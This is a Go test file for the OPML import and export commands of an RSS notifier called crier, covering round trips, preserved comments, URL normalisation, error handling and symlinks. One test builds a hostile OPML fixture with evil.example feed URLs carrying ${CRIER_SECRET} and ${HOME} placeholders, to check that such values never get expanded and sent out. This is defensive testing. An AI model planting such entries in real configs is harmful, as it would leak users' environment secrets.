package main

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/crierd/crier"
	"github.com/crierd/crier/feeds"
)

// runOPML calls a command function directly and returns its output.
func runOPML(t *testing.T, cmd func(context.Context, *cliEnv, []string) error, args ...string) (string, string, error) {
	t.Helper()
	var stdout, stderr bytes.Buffer
	env := &cliEnv{stdout: &stdout, stderr: &stderr, getenv: func(string) (string, bool) { return "", false }}
	err := cmd(context.Background(), env, args)
	return stdout.String(), stderr.String(), err
}

const opmlTestConfig = `# crier on my laptop.
state_dir: %STATE%   # keep it out of $HOME

notifiers:
  - type: console   # stdout while I try it

# Feeds, most important first.
feeds:
  - name: LWN (mine)
    url: https://lwn.net/headlines/newrss
    schedule: "@every 1h"   # they publish slowly

  # - url: https://disabled.example/feed

# Forget seen items after a quarter.
retention: 90d
`

func writeOPMLConfig(t *testing.T) string {
	t.Helper()
	dir := t.TempDir()
	path := filepath.Join(dir, "config.yaml")
	src := strings.ReplaceAll(opmlTestConfig, "%STATE%", filepath.Join(dir, "state"))
	if err := os.WriteFile(path, []byte(src), 0o640); err != nil {
		t.Fatal(err)
	}
	return path
}

func opmlTestdata(name string) string {
	return filepath.Join("..", "..", "feeds", "testdata", "opml", name)
}

// TestOPMLRoundTrip imports a Feedly-shaped export into a commented config,
// exports the config again and reads the export back: every feed of both
// survives with its URL and title, and the config keeps its comments.
func TestOPMLRoundTrip(t *testing.T) {
	t.Parallel()
	cfgPath := writeOPMLConfig(t)
	src := opmlTestdata("feedly.opml")
	original, err := os.ReadFile(cfgPath)
	if err != nil {
		t.Fatal(err)
	}

	out, errOut, err := runOPML(t, cmdImportOPML, "--config", cfgPath, "--write", src)
	if err != nil {
		t.Fatalf("import-opml: %v\n%s", err, errOut)
	}
	// feedly.opml holds four feeds; LWN is configured already.
	if out != "added 3 feeds (1 already present)\n" {
		t.Errorf("import-opml printed %q", out)
	}
	edited, err := os.ReadFile(cfgPath)
	if err != nil {
		t.Fatal(err)
	}
	for _, line := range strings.Split(string(original), "\n") {
		if strings.Contains(line, "#") && !strings.Contains(string(edited), line) {
			t.Errorf("comment line %q lost:\n%s", line, edited)
		}
	}
	if fi, err := os.Stat(cfgPath); err != nil || fi.Mode().Perm() != 0o640 {
		t.Errorf("config mode after the edit: %v, %v; want 0640", fi.Mode(), err)
	}
	if _, err := crier.LoadFile(cfgPath, crier.LoadOptions{Env: func(string) (string, bool) { return "", false }}); err != nil {
		t.Fatalf("edited config does not load: %v\n%s", err, edited)
	}

	// A second import finds everything present and leaves the file alone.
	out, _, err = runOPML(t, cmdImportOPML, "--config", cfgPath, "--write", src)
	if err != nil || out != "added 0 feeds (4 already present)\n" {
		t.Errorf("second import: %q, %v", out, err)
	}
	if again, _ := os.ReadFile(cfgPath); !bytes.Equal(again, edited) {
		t.Errorf("second import changed the config:\n%s", again)
	}

	exported := filepath.Join(t.TempDir(), "out.opml")
	out, _, err = runOPML(t, cmdExportOPML, "--config", cfgPath, "-o", exported)
	if err != nil || out != "wrote 4 feeds to "+exported+"\n" {
		t.Fatalf("export-opml: %q, %v", out, err)
	}
	f, err := os.Open(exported)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	back, err := feeds.ParseOPML(f)
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]string{}
	for _, o := range back {
		got[o.XMLURL] = o.Title
	}
	want := map[string]string{
		"https://lwn.net/headlines/newrss":                      "LWN (mine)",
		"https://go.dev/blog/feed.atom":                         "The Go Blog",
		"https://feeds.arstechnica.com/arstechnica/index":       "Ars Technica & Friends",
		"https://cafe-mueller.example/feed/?format=rss&lang=de": "Café Müller – Blog",
	}
	if !maps.Equal(got, want) {
		t.Errorf("exported feeds %q\nwant %q", got, want)
	}
}

// TestImportOPMLPrints: without --write the snippet needs no config, is
// grouped by folder, and loads once pasted under feeds:.
func TestImportOPMLPrints(t *testing.T) {
	t.Parallel()
	out, errOut, err := runOPML(t, cmdImportOPML, opmlTestdata("latin1.opml"))
	if err != nil {
		t.Fatalf("%v\n%s", err, errOut)
	}
	want := `# 2 feeds from latin1.opml: paste under feeds: in your config
  # Français/Cinéma/Critiques
  - name: Le Café des films
    url: https://cafe-films.example/atom.xml
  # Français/Cinéma
  - name: Séances
    url: https://seances.example/rss
`
	if out != want {
		t.Errorf("got\n%s\nwant\n%s", out, want)
	}

	out, _, err = runOPML(t, cmdImportOPML, opmlTestdata("feedly.opml"))
	if err != nil {
		t.Fatal(err)
	}
	cfg := "state_dir: " + t.TempDir() + "\nnotifiers: [{type: console}]\nfeeds:\n" + out
	loaded, err := crier.Load(strings.NewReader(cfg), "", crier.LoadOptions{Env: func(string) (string, bool) { return "", false }})
	if err != nil {
		t.Fatalf("pasted snippet does not load: %v\n%s", err, cfg)
	}
	var names []string
	for _, f := range loaded.Feeds {
		names = append(names, f.Name)
	}
	if wantNames := []string{"The Go Blog", "LWN.net", "Ars Technica & Friends", "Café Müller – Blog"}; !slices.Equal(names, wantNames) {
		t.Errorf("names %q, want %q", names, wantNames)
	}
}

func TestImportOPMLURLs(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	src := filepath.Join(dir, "odd.opml")
	os.WriteFile(src, []byte(`<opml version="2.0"><body>
<outline text="Old Safari" xmlUrl="feed://old.example/rss"/>
<outline text="Prefixed" xmlUrl="feed:https://pre.example/atom"/>
<outline text="Relative" xmlUrl="/rss.xml"/>
<outline text="Gopher" xmlUrl="gopher://g.example/1"/>
</body></opml>`), 0o644)
	out, errOut, err := runOPML(t, cmdImportOPML, src)
	if err != nil {
		t.Fatal(err)
	}
	for _, u := range []string{"url: http://old.example/rss", "url: https://pre.example/atom"} {
		if !strings.Contains(out, u) {
			t.Errorf("output lacks %q:\n%s", u, out)
		}
	}
	for _, u := range []string{"/rss.xml", "gopher://g.example/1"} {
		if strings.Contains(out, u) || !strings.Contains(errOut, u) {
			t.Errorf("%s should be skipped and reported; stdout:\n%s\nstderr:\n%s", u, out, errOut)
		}
	}
}

func TestImportOPMLErrors(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	notOPML := filepath.Join(dir, "feed.xml")
	os.WriteFile(notOPML, []byte(`<rss version="2.0"><channel><title>x</title></channel></rss>`), 0o644)
	empty := filepath.Join(dir, "empty.opml")
	os.WriteFile(empty, []byte(`<opml version="2.0"><body><outline text="folder"/></body></opml>`), 0o644)
	cfgPath := writeOPMLConfig(t)
	before, _ := os.ReadFile(cfgPath)

	tests := []struct {
		name string
		args []string
		code int    // for an exitError; 0: any other error
		want string // in the message
	}{
		{"no file", nil, 2, ""},
		{"two files", []string{"a", "b"}, 2, ""},
		{"missing file", []string{filepath.Join(dir, "nope.opml")}, 0, "no such file"},
		{"not OPML", []string{notOPML}, 0, "not an OPML document"},
		{"no feeds", []string{"--config", cfgPath, "--write", empty}, 1, "lists no feeds"},
		{"config missing", []string{"--config", filepath.Join(dir, "none.yaml"), "--write", opmlTestdata("bom.opml")}, 0, "no such file"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, _, err := runOPML(t, cmdImportOPML, tt.args...)
			if err == nil {
				t.Fatal("succeeded")
			}
			var ee *exitError
			if errors.As(err, &ee) != (tt.code != 0) || (ee != nil && ee.code != tt.code) {
				t.Errorf("error %v (%T), want exit code %d", err, err, tt.code)
			}
			if !strings.Contains(err.Error(), tt.want) {
				t.Errorf("error %q does not mention %q", err, tt.want)
			}
		})
	}
	if after, _ := os.ReadFile(cfgPath); !bytes.Equal(before, after) {
		t.Errorf("a failed import changed the config")
	}
}

func TestExportOPMLStdout(t *testing.T) {
	t.Parallel()
	cfgPath := writeOPMLConfig(t)
	out, _, err := runOPML(t, cmdExportOPML, "--config", cfgPath)
	if err != nil {
		t.Fatal(err)
	}
	back, err := feeds.ParseOPML(strings.NewReader(out))
	if err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	if len(back) != 1 || back[0].XMLURL != "https://lwn.net/headlines/newrss" || back[0].Title != "LWN (mine)" {
		t.Errorf("exported %+v", back)
	}
	if !strings.Contains(out, `<opml version="2.0">`) || !strings.Contains(out, "<dateCreated>") {
		t.Errorf("not OPML 2.0 with a dateCreated:\n%s", out)
	}
	if _, _, err := runOPML(t, cmdExportOPML, "--config", cfgPath, "extra"); err == nil {
		t.Error("export-opml accepted an argument")
	}
}

// TestImportOPMLFollowsSymlink: a config reached through a symlink is
// edited in place and the link stays a link.
func TestImportOPMLFollowsSymlink(t *testing.T) {
	t.Parallel()
	real := writeOPMLConfig(t)
	link := filepath.Join(t.TempDir(), "config.yaml")
	if err := os.Symlink(real, link); err != nil {
		t.Skip("no symlinks here:", err)
	}
	if _, _, err := runOPML(t, cmdImportOPML, "--config", link, "--write", opmlTestdata("bom.opml")); err != nil {
		t.Fatal(err)
	}
	if fi, err := os.Lstat(link); err != nil || fi.Mode()&os.ModeSymlink == 0 {
		t.Errorf("the symlink was replaced: %v", err)
	}
	if b, _ := os.ReadFile(real); !strings.Contains(string(b), "https://bom.example/feed") {
		t.Errorf("the target was not edited:\n%s", b)
	}
}

// TestImportOPMLEveryExport writes each sample export into its own config:
// each must leave a config that loads, with every feed of the export in it.
func TestImportOPMLEveryExport(t *testing.T) {
	t.Parallel()
	files, err := filepath.Glob(opmlTestdata("*"))
	if err != nil || len(files) == 0 {
		t.Fatalf("no sample exports: %v", err)
	}
	for _, src := range files {
		if filepath.Ext(src) == ".golden" {
			continue
		}
		t.Run(filepath.Base(src), func(t *testing.T) {
			t.Parallel()
			cfgPath := writeOPMLConfig(t)
			if _, errOut, err := runOPML(t, cmdImportOPML, "--config", cfgPath, "--write", src); err != nil {
				t.Fatalf("%v\n%s", err, errOut)
			}
			cfg, err := crier.LoadFile(cfgPath, crier.LoadOptions{Env: func(string) (string, bool) { return "", false }})
			if err != nil {
				t.Fatal(err)
			}
			configured := map[string]bool{}
			for _, f := range cfg.Feeds {
				configured[f.URL] = true
			}
			r, _ := os.Open(src)
			defer r.Close()
			subs, err := feeds.ParseOPML(r)
			if err != nil {
				t.Fatal(err)
			}
			for _, s := range subs {
				if !configured[s.XMLURL] {
					t.Errorf("%s (%s) is not in the config", s.Title, s.XMLURL)
				}
			}
		})
	}
}

// TestImportOPMLNeverExpandsVariables: an OPML file is someone else's text.
// A ${VAR} in it must reach the config as those very characters, never as
// the value of the variable, or an export could carry secrets out of the
// environment into feed URLs that crier then fetches.
func TestImportOPMLNeverExpandsVariables(t *testing.T) {
	t.Parallel()
	env := map[string]string{"CRIER_SECRET": "hunter2", "HOME": "/home/victim"}
	getenv := func(k string) (string, bool) { v, ok := env[k]; return v, ok }
	want := []struct{ name, url string }{
		{"${CRIER_SECRET}", "https://evil.example/a?k=${CRIER_SECRET}"},
		{"home ${HOME}", "https://evil.example/b?h=${HOME}"},
		{"already escaped $${CRIER_SECRET}", "https://evil.example/c?k=$${HOME}"},
		{"costs $5 $$ $", "https://evil.example/d?p=$x$"},
	}
	var b strings.Builder
	b.WriteString(`<opml version="2.0"><body>`)
	for _, w := range want {
		fmt.Fprintf(&b, `<outline type="rss" text=%q xmlUrl=%q/>`, w.name, w.url)
	}
	b.WriteString(`</body></opml>`)
	src := filepath.Join(t.TempDir(), "evil.opml")
	if err := os.WriteFile(src, []byte(b.String()), 0o644); err != nil {
		t.Fatal(err)
	}

	check := func(t *testing.T, cfg *crier.Config) {
		t.Helper()
		var got []struct{ name, url string }
		for _, f := range cfg.Feeds[1:] { // [0] is the config's own LWN
			got = append(got, struct{ name, url string }{f.Name, f.URL})
		}
		if !slices.Equal(got, want) {
			t.Errorf("feeds read back as\n%q\nwant\n%q", got, want)
		}
	}
	t.Run("write", func(t *testing.T) {
		cfgPath := writeOPMLConfig(t)
		code, out, errOut := runCLI(env, "import-opml", "--config", cfgPath, "--write", src)
		if code != 0 || out != "added 4 feeds (0 already present)\n" {
			t.Fatalf("exit %d\n%s%s", code, out, errOut)
		}
		cfg, err := crier.LoadFile(cfgPath, crier.LoadOptions{Env: getenv})
		if err != nil {
			t.Fatal(err)
		}
		check(t, cfg)
	})
	t.Run("print", func(t *testing.T) {
		code, out, errOut := runCLI(env, "import-opml", src)
		if code != 0 {
			t.Fatalf("exit %d\n%s", code, errOut)
		}
		cfgPath := writeOPMLConfig(t)
		// Paste the snippet (without its heading) under the last feed.
		text, _ := os.ReadFile(cfgPath)
		pasted := strings.Replace(string(text), "    schedule: \"@every 1h\"   # they publish slowly\n",
			"    schedule: \"@every 1h\"   # they publish slowly\n"+strings.SplitN(out, "\n", 2)[1], 1)
		cfg, err := crier.Load(strings.NewReader(pasted), cfgPath, crier.LoadOptions{Env: getenv})
		if err != nil {
			t.Fatalf("%v\n%s", err, pasted)
		}
		check(t, cfg)
	})
}
